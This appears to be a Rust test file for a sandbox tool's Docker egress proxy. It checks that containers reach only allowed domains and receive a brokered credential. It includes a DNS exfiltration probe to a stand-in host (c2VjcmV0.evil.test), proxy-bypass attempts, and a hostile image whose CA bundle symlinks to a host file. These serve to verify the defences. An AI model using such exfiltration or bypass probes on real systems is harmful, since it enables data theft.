//! Egress on the Docker backend: a container with network none whose only way out is the
//! session's proxy, its Unix socket in the run dir the container sees, bridged to the
//! container's loopback by the agent. One warm pool serves a session with a way out and
//! one without. The proxy runs in this test's process, inside the test's own internet
//! ([`net::run`]); the containers are the engine's, in network namespaces of their own.
//! The session with a way out brokers a credential for one HTTPS domain: the same proxy
//! path adds it, the container's curl trusting the session CA through its variables and
//! through the image's own system bundle, which the claim covers with the image's roots
//! and the session CA (and a cold start that cannot inject, at create time).

use std::collections::HashMap;
use std::net::{IpAddr, SocketAddr};
use std::path::Path;
use std::pin::Pin;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use cordon::network::EgressSpec;
use cordon::network::broker::{Broker, Credential};
use cordon::network::policy::DomainRule;
use cordon::network::proxy::dial::{Resolve, StaticResolver};
use cordon::network::proxy::record::MemoryLog;
use cordon::sandbox::docker::{DockerBackend, DockerConfig, elf_deps};
use cordon::sandbox::{Backend, Sandbox, SandboxSpec};
use cordon_tests::net::{self, SERVER};
use cordon_tests::tls::TestCa;
use cordon_tests::{Workspace, cordon_bin, docker_ready};
use sandbox_agent::egress::ca::SYSTEM_BUNDLE;
use sandbox_agent::proto::ExecRequest;

/// The image the test builds: `cordon-minimal` with the host's curl and the libraries it
/// loads, at their own paths, and the host's system CA bundle.
const IMAGE: &str = "cordon-test-net-curl";

/// Builds [`IMAGE`] through `cordon images build` (a project image, as a user makes one).
fn build_curl_image(home: &Path) {
    let ctx = home.join("ctx");
    let root = ctx.join("root");
    let curl = Path::new("/usr/bin/curl");
    let elf = std::fs::read(curl).expect("the host's curl");
    let mut files = elf_deps::runtime_files(curl, &elf).unwrap();
    files.push(curl.to_path_buf());
    // The host's system roots, at the image's system bundle: a claim binds the session CA
    // over it.
    files.push(Path::new(SYSTEM_BUNDLE).to_path_buf());
    for f in &files {
        let dst = root.join(f.strip_prefix("/").unwrap());
        std::fs::create_dir_all(dst.parent().unwrap()).unwrap();
        std::fs::copy(f, &dst).unwrap();
    }
    build_image(
        home,
        IMAGE,
        "FROM cordon-minimal\nCOPY root/ /\nENV PATH=/usr/bin:/bin\n",
    );
}

/// Builds `name` from `home/ctx` with `dockerfile` through `cordon images build` (a
/// project image, as a user makes one).
fn build_image(home: &Path, name: &str, dockerfile: &str) {
    let ctx = home.join("ctx");
    std::fs::write(ctx.join("Dockerfile"), dockerfile).unwrap();
    let out = std::process::Command::new(cordon_bin())
        .args(["images", "build", name, "--dockerfile"])
        .arg(ctx.join("Dockerfile"))
        .arg("--context")
        .arg(&ctx)
        .env("CORDON_HOME", home)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
}

/// Removes the test's image, whatever happens.
struct Image;

impl Drop for Image {
    fn drop(&mut self) {
        let _ = std::process::Command::new("docker")
            .args(["rmi", "-f", IMAGE])
            .output();
    }
}

/// Answers [`SERVER`] for its names and keeps every name it was asked.
struct Recording {
    table: StaticResolver,
    asked: Mutex<Vec<String>>,
}

impl Recording {
    fn new(names: &[&str]) -> Recording {
        let table = names
            .iter()
            .map(|n| (n.to_string(), vec![IpAddr::V4(SERVER)]))
            .collect();
        Recording {
            table: StaticResolver(table),
            asked: Mutex::new(Vec::new()),
        }
    }
}

impl Resolve for Recording {
    fn resolve<'a>(
        &'a self,
        host: &'a str,
        port: u16,
    ) -> Pin<Box<dyn Future<Output = std::io::Result<Vec<SocketAddr>>> + Send + 'a>> {
        self.asked.lock().unwrap().push(host.to_string());
        self.table.resolve(host, port)
    }
}

/// Brokers `X-Api-Key: docker-secret` for secure.test, its server verified by `ca`.
fn broker(ca: &TestCa) -> Broker {
    let domain = DomainRule::parse("secure.test", "test: brokeredCredentials").unwrap();
    let cred = Credential::new(domain, "X-Api-Key", "docker-secret".into(), "env TEST");
    Broker::new("net-docker-egress", vec![cred], ca.roots()).unwrap()
}

/// One `CHECK name rc=N out=...` line per check (busybox sh, the image's curl), run after
/// [`net::CHECK_PRELUDE`].
const CHECKS: &str = r#"
check http curl -sS http://allowed.test/x
check connect curl -sS -p http://allowed.test/y
check denied code http://other.test/
check unlisted code http://unlisted.test/
check ip_literal code http://203.0.113.10/
check noproxy curl -sS --max-time 20 --noproxy '*' http://allowed.test/
check noproxy_ip curl -sS --max-time 20 --noproxy '*' http://203.0.113.10/
check dns_allowed nslookup allowed.test
check dns_denied nslookup other.test
check dns_exfil nslookup c2VjcmV0.evil.test
check bridge curl -sS --max-time 20 -x http://127.0.0.1:3128 http://allowed.test/z
check brokered curl -sS --max-time 20 https://secure.test/b
check ca_bundle echo "$CURL_CA_BUNDLE"
check system_store grep -c 'Cordon session CA' /etc/ssl/certs/ca-certificates.crt
check system_roots grep -c 'BEGIN CERTIFICATE' /etc/ssl/certs/ca-certificates.crt
check system_brokered env -u CURL_CA_BUNDLE -u SSL_CERT_FILE curl -sS --max-time 20 --cacert /etc/ssl/certs/ca-certificates.crt https://secure.test/b
check system_store_write sh -c 'echo x >> /etc/ssl/certs/ca-certificates.crt && echo wrote'
"#;

async fn checks(sandbox: &Sandbox) -> HashMap<String, (i32, String)> {
    let req = ExecRequest {
        exec_id: "net-checks".into(),
        command: format!("{}{CHECKS}", net::CHECK_PRELUDE),
        timeout_ms: 120_000,
        ..ExecRequest::default()
    };
    let (out, status) = sandbox.client.clone().exec_collect(req).await.unwrap();
    let out = String::from_utf8_lossy(&out).into_owned();
    assert_eq!(status.code, Some(0), "{out}");
    net::parse_checks(&out)
}

/// The checks' verdict on the image's system bundle in a session brokering a credential:
/// the image's own roots (`host_roots` of them: the image carries the host's), then the
/// session CA, read-only, and curl with no CA variable trusts the proxy through it.
fn assert_the_system_store_trusts_the_session_ca(
    c: &HashMap<String, (i32, String)>,
    host_roots: usize,
) {
    let get = |name: &str| {
        c.get(name)
            .cloned()
            .unwrap_or_else(|| panic!("{name}: {c:?}"))
    };
    assert_eq!(get("system_store"), (0, "1".into()));
    assert_eq!(get("system_roots"), (0, (host_roots + 1).to_string()));
    assert_eq!(get("system_brokered"), (0, "served".into()));
    let write = get("system_store_write");
    assert_ne!(write.0, 0, "{write:?}");
}

#[test]
fn docker_sessions_with_and_without_a_way_out_share_the_warm_pool() {
    if let Err(why) = docker_ready() {
        eprintln!("\n!!!!! SKIPPING docker egress test: {why} !!!!!\n");
        return;
    }
    let home = tempfile::tempdir().unwrap();
    let _image = Image;
    build_curl_image(home.path());
    let run_root = home.path().join("run");
    // No mount namespace of the test's own (no resolv.conf to mount): the claim writes
    // into the container's root, a mount made after this thread started. The proxy's
    // resolver is the test's table, recording what it was asked.
    net::run(&[IpAddr::V4(SERVER)], None, move || async move {
        let resolver = Arc::new(Recording::new(&[
            "allowed.test",
            "other.test",
            "unlisted.test",
            "secure.test",
        ]));
        net::http_server(SocketAddr::new(IpAddr::V4(SERVER), 80), 0).await;
        let certs = tempfile::tempdir().unwrap();
        let ca = TestCa::new(certs.path(), &["secure.test"]);
        let files = HashMap::from([("/b".to_string(), b"served".to_vec())]);
        let heads = net::file_server(
            SocketAddr::new(IpAddr::V4(SERVER), 443),
            files,
            Some(ca.acceptor()),
        )
        .await;
        let backend = DockerBackend::new(DockerConfig {
            pool_size: 2,
            default_image: IMAGE.into(),
            run_root: run_root.clone(),
            ..DockerConfig::default()
        })
        .await
        .unwrap();
        let pool = backend.pool().expect("the tests run as root: a warm pool");
        assert_eq!(pool.wait_ready(2, Duration::from_secs(120)).await, 2);

        let ws = Workspace::new();
        let log = Arc::new(MemoryLog::default());
        let mut egress = EgressSpec::new(net::policy(
            &["allowed.test", "other.test", "secure.test"],
            &["other.test"],
        ));
        egress.log = log.clone();
        egress.resolver = resolver.clone();
        egress.broker = Some(Arc::new(broker(&ca)));
        let spec = SandboxSpec::new("net-docker-egress", ws.path()).with_egress(egress);
        let with = backend.start(&spec).await.unwrap();
        assert!(
            with.warm,
            "a session with a way out is served from the pool"
        );
        let c = checks(&with).await;
        let get = |name: &str| {
            c.get(name)
                .cloned()
                .unwrap_or_else(|| panic!("{name}: {c:?}"))
        };
        assert_eq!(get("http"), (0, "host=allowed.test path=/x".into()));
        assert_eq!(get("connect"), (0, "host=allowed.test path=/y".into()));
        assert_eq!(get("bridge"), (0, "host=allowed.test path=/z".into()));
        for refused in ["denied", "unlisted", "ip_literal"] {
            assert_eq!(get(refused), (0, "403".into()), "{refused}");
        }
        // The brokered domain: the header reached the server, the container trusted the
        // session CA through the bundle its agent wrote in the run dir.
        assert_eq!(get("brokered"), (0, "served".into()));
        assert_eq!(get("ca_bundle"), (0, "/run/cordon/ca-bundle.crt".into()));
        // The image's system store trusts it too, a program that reads no variable
        // included.
        let host_roots = std::fs::read_to_string(SYSTEM_BUNDLE)
            .unwrap()
            .matches("BEGIN CERTIFICATE")
            .count();
        assert_the_system_store_trusts_the_session_ca(&c, host_roots);
        let heads = heads.lock().unwrap().clone();
        assert!(
            heads
                .iter()
                .any(|h| h.contains("X-Api-Key: docker-secret\r\n")),
            "{heads:?}"
        );
        // Around the proxy there is no route out of the container.
        for direct in ["noproxy", "noproxy_ip"] {
            assert_ne!(get(direct).0, 0, "{direct}: {:?}", get(direct));
        }
        let (rc, out) = get("dns_allowed");
        assert_eq!(rc, 0, "{out}");
        assert!(out.contains("198.18.0.1"), "{out}");
        for refused in ["dns_denied", "dns_exfil"] {
            let (rc, out) = get(refused);
            assert!(rc != 0 && !out.contains("198.18"), "{refused}: {out}");
        }
        let asked = resolver.asked.lock().unwrap().clone();
        for never in ["other.test", "unlisted.test", "c2VjcmV0.evil.test"] {
            assert!(
                !asked.iter().any(|n| n == never),
                "{never} resolved: {asked:?}"
            );
        }
        let records = log.records();
        assert!(
            records
                .iter()
                .any(|r| r.host == "allowed.test" && r.allowed && r.bytes_down > 0),
            "{records:?}"
        );
        assert!(
            records.iter().any(|r| r.host == "other.test" && !r.allowed),
            "{records:?}"
        );
        let sock = run_root.join("cordon-net-docker-egress/sock/egress.sock");
        with.destroy().await.unwrap();
        assert!(!sock.exists(), "the proxy's socket goes with the session");

        // A session without network, from the same pool: no proxy, no INET socket at all.
        assert!(pool.wait_ready(1, Duration::from_secs(120)).await >= 1);
        let ws2 = Workspace::new();
        let without = backend
            .start(&SandboxSpec::new("net-docker-none", ws2.path()))
            .await
            .unwrap();
        assert!(
            without.warm,
            "a session without network is served from the pool too"
        );
        let c = checks(&without).await;
        for name in ["http", "bridge", "noproxy", "noproxy_ip", "dns_allowed"] {
            let (rc, out) = c.get(name).cloned().unwrap();
            assert_ne!(rc, 0, "{name} without network: {out}");
        }
        // The image's store, untouched by the other session's CA.
        assert_eq!(c.get("system_store").cloned(), Some((1, "0".into())));
        assert_eq!(
            c.get("system_roots").cloned(),
            Some((0, host_roots.to_string()))
        );
        assert!(
            !run_root
                .join("cordon-net-docker-none/sock/egress.sock")
                .exists(),
            "no proxy for a session without network"
        );
        without.destroy().await.unwrap();
        backend.shutdown().await;

        // A Cordon that cannot inject mounts (one that is not root; here told not to
        // idmap, which takes the same path): the session starts cold with its binds made
        // at create time, the image's roots asked of the engine.
        let bound = DockerBackend::new(DockerConfig {
            pool_size: 0,
            idmap: false,
            default_image: IMAGE.into(),
            run_root: run_root.clone(),
            ..DockerConfig::default()
        })
        .await
        .unwrap();
        let ws3 = Workspace::new();
        let mut egress = EgressSpec::new(net::policy(&["secure.test"], &[]));
        egress.resolver = resolver.clone();
        egress.broker = Some(Arc::new(broker(&ca)));
        let spec = SandboxSpec::new("net-docker-bound", ws3.path()).with_egress(egress);
        let cold = bound.start(&spec).await.unwrap();
        assert!(!cold.warm);
        let c = checks(&cold).await;
        assert_the_system_store_trusts_the_session_ca(&c, host_roots);
        cold.destroy().await.unwrap();
        bound.shutdown().await;
        // The container the roots were read from is gone.
        let left = std::process::Command::new("docker")
            .args(["ps", "-aq", "--filter", "name=cordon-ca-roots"])
            .output()
            .unwrap();
        assert!(left.stdout.is_empty(), "{left:?}");
    });
}

/// A hostile image (a repository's devcontainer can build one) whose system bundle is a
/// link to a file of the host's: a session brokering a credential is started from it on
/// both Docker paths (the claim reading the container's layer, and the cold start asking
/// the engine), and neither the bundle the container sees nor anything the host wrote
/// for it holds a byte of that file.
#[test]
fn a_hostile_images_linked_bundle_gives_the_host_nothing() {
    if let Err(why) = docker_ready() {
        eprintln!("\n!!!!! SKIPPING docker hostile-image test: {why} !!!!!\n");
        return;
    }
    const HOSTILE: &str = "cordon-test-hostile-bundle";
    struct Hostile;
    impl Drop for Hostile {
        fn drop(&mut self) {
            let _ = std::process::Command::new("docker")
                .args(["rmi", "-f", HOSTILE])
                .output();
        }
    }
    let _image = Hostile;
    // The host's "secret": a file of this test's, never a real one.
    let secret_dir = tempfile::tempdir().unwrap();
    let secret = secret_dir.path().join("host-secret");
    let canary = format!("host-secret-canary-{}", std::process::id());
    std::fs::write(&secret, &canary).unwrap();
    let home = tempfile::tempdir().unwrap();
    let ctx = home.path().join("ctx");
    let certs = ctx.join("root/etc/ssl/certs");
    std::fs::create_dir_all(&certs).unwrap();
    std::os::unix::fs::symlink(&secret, certs.join("ca-certificates.crt")).unwrap();
    build_image(home.path(), HOSTILE, "FROM cordon-minimal\nCOPY root/ /\n");
    let run_root = home.path().join("run");
    let rt = tokio::runtime::Runtime::new().unwrap();
    rt.block_on(async {
        let certs_dir = tempfile::tempdir().unwrap();
        let ca = TestCa::new(certs_dir.path(), &["secure.test"]);
        for (i, idmap) in [true, false].into_iter().enumerate() {
            let backend = DockerBackend::new(DockerConfig {
                pool_size: 0,
                idmap,
                default_image: HOSTILE.into(),
                run_root: run_root.clone(),
                ..DockerConfig::default()
            })
            .await
            .unwrap();
            let ws = Workspace::new();
            let mut egress = EgressSpec::new(net::policy(&["secure.test"], &[]));
            egress.broker = Some(Arc::new(broker(&ca)));
            let id = format!("net-docker-hostile-{i}");
            let sandbox = backend
                .start(&SandboxSpec::new(id.clone(), ws.path()).with_egress(egress))
                .await
                .unwrap();
            let req = ExecRequest {
                exec_id: "look".into(),
                command: "cat /etc/ssl/certs/ca-certificates.crt /run/cordon/ca-bundle.crt \
                          2>&1; echo; grep -c 'Cordon session CA' /run/cordon/ca-bundle.crt"
                    .into(),
                timeout_ms: 60_000,
                ..ExecRequest::default()
            };
            let (out, _) = sandbox.client.clone().exec_collect(req).await.unwrap();
            let out = String::from_utf8_lossy(&out).into_owned();
            // What the host wrote for the container, read before the session goes.
            let host_bundle = run_root.join(format!("cordon-{id}/sock/ca-bundle.crt"));
            let written = std::fs::read_to_string(&host_bundle).unwrap_or_default();
            sandbox.destroy().await.unwrap();
            backend.shutdown().await;
            assert!(!out.contains(&canary), "idmap={idmap}: {out}");
            assert!(!written.contains(&canary), "idmap={idmap}: {written}");
            // The session CA is still trusted through the variables' bundle.
            assert!(out.trim_end().ends_with('1'), "idmap={idmap}: {out}");
        }
    });
    assert_eq!(std::fs::read_to_string(&secret).unwrap(), canary);
}
